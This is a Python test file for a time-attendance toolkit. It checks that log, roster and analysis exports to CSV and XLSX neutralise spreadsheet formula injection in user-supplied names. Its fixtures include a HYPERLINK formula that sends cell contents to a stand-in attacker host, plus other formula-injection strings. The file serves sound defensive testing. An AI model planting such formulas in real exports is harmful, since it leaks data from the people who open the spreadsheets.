"""Exports read back as text, never as formulas: logs CSV, roster CSV, analysis CSV and XLSX.

Names come from terminals and keypads (no authentication), so each writer is tested with a
hostile name and read back the way a spreadsheet would see it.
"""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from tests.analysis_helpers import frame
from wac_toolkit import Session, VirtualTerminal
from wac_toolkit.analysis import first_last, timesheet, timesheet_totals, to_csv, to_xlsx
from wac_toolkit.cli import main
from wac_toolkit.roster.csvio import read_people, write_people
from wac_toolkit.safe_cells import safe_frame, safe_text, unsafe_text

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAMES = [EVIL, "+1 555", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "Zoë\x07\x1b Bell"]


def test_safe_text_quotes_formula_starts_and_drops_xlsx_illegal_characters() -> None:
    assert [safe_text(n) for n in NAMES] == [
        "'" + EVIL, "'+1 555", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1", "Zoë Bell",
    ]  # fmt: skip
    assert safe_text("Ada") == "Ada" and safe_text("") == "" and safe_text("a=b") == "a=b"
    assert [unsafe_text(safe_text(n)) for n in NAMES[:6]] == NAMES[:6]
    assert unsafe_text("'quoted") == "'quoted"


def test_safe_frame_keeps_numbers_numbers() -> None:
    data = pd.DataFrame(
        {
            "n": [-5, 3],
            "f": [-0.5, 1.0],
            "s": pd.array([EVIL, None], dtype="string"),
            "o": ["-1", -1],
            "c": pd.Categorical(["=x", "y"]),
        }
    )
    out = safe_frame(data)
    assert out["n"].tolist() == [-5, 3] and out["n"].dtype == "int64"
    assert out["f"].tolist() == [-0.5, 1.0]
    assert out["s"].iloc[0] == "'" + EVIL and pd.isna(out["s"].iloc[1])
    assert out["s"].dtype == data["s"].dtype
    assert out["o"].tolist() == ["'-1", -1]
    assert out["c"].tolist() == ["'=x", "y"] and isinstance(out["c"].dtype, pd.CategoricalDtype)
    assert data["s"].iloc[0] == EVIL  # the caller's frame is not changed


def hostile_sheet() -> pd.DataFrame:
    logs = frame(
        *(
            p
            for i, name in enumerate(NAMES, start=1)
            for p in (
                (i, "2025-03-03 08:00:00", {"name": name}),
                (i, "2025-03-03 16:00:00", {"name": name}),
            )
        )
    )
    return timesheet(first_last(logs), "2025-03")


def test_analysis_xlsx_holds_text_not_formulas_and_survives_control_characters(
    tmp_path: Path,
) -> None:
    sheet = hostile_sheet()
    path = tmp_path / "sheet.xlsx"
    to_xlsx({"days": sheet, "totals": timesheet_totals(sheet)}, path)  # \x07 no longer crashes
    to_xlsx(sheet, tmp_path / "per-person.xlsx", by="enrollid")
    book = openpyxl.load_workbook(path)
    names = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
        header = [c.value for c in ws[1]]
        column = header.index("name") + 1
        names += [ws.cell(r, column).value for r in range(2, ws.max_row + 1)]
    assert "'" + EVIL in names and "Zoë Bell" in names
    days = book["days"]
    header = [c.value for c in days[1]]
    hours = days.cell(2, header.index("hours") + 1)
    assert hours.data_type == "n"  # numbers stay numbers
    per_person = openpyxl.load_workbook(tmp_path / "per-person.xlsx")
    assert all(not ws.title.startswith("'") for ws in per_person.worksheets)


def test_analysis_csv_holds_text_not_formulas(tmp_path: Path) -> None:
    path = tmp_path / "sheet.csv"
    to_csv(hostile_sheet(), path)
    with path.open(newline="", encoding="utf-8") as handle:
        names = {row["name"] for row in csv.DictReader(handle)}
    assert "'" + EVIL in names and "'@SUM(A1:A9)" in names
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)


def test_roster_csv_export_neutralises_and_import_restores(tmp_path: Path) -> None:
    from wac_toolkit.roster import Person

    people = [
        Person(enrollid=7, name=EVIL, credentials={10: "0012"}),
        Person(enrollid=8, name="-Bob", credentials={11: "42"}),
    ]
    out = io.StringIO()
    assert write_people(people, out) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["name"] for r in rows] == ["'" + EVIL, "'-Bob"]
    assert rows[0]["pin"] == "0012"
    back = read_people(out.getvalue())
    assert [r.name for r in back] == [EVIL, "-Bob"]


async def _store_hostile_punches(db: Path) -> None:
    async with Session(db, "127.0.0.1", 0, tz="UTC", adopt_new=True) as session:
        vt = VirtualTerminal(session.url, "SN1")
        vt.start()
        await vt.wait_registered()
        vt.punch(7, datetime(2025, 3, 3, 8, 0), name=EVIL)
        vt.punch(8, datetime(2025, 3, 3, 8, 1), name="-1")
        await vt.wait_flushed()
        await vt.stop()


def test_logs_csv_export_from_the_cli_holds_text(tmp_path: Path) -> None:
    db = tmp_path / "site.sqlite"
    asyncio.run(_store_hostile_punches(db))
    target = tmp_path / "logs.csv"
    assert main(["logs", "--db", str(db), "--tz", "UTC", "-o", str(target)]) == 0
    with target.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["name"] for r in rows] == ["'" + EVIL, "'-1"]
    assert [r["enrollid"] for r in rows] == ["7", "8"]


@pytest.mark.parametrize("name", NAMES)
def test_every_hostile_name_round_trips_through_xlsx_as_text(tmp_path: Path, name: str) -> None:
    path = tmp_path / "one.xlsx"
    to_xlsx(pd.DataFrame({"name": [name], "n": [-1]}), path)
    ws = openpyxl.load_workbook(path).active
    assert ws["A2"].data_type == "s" and ws["B2"].value == -1
    assert ws["A2"].value.replace("\n", "\r") == safe_text(name)  # XML keeps CR as LF
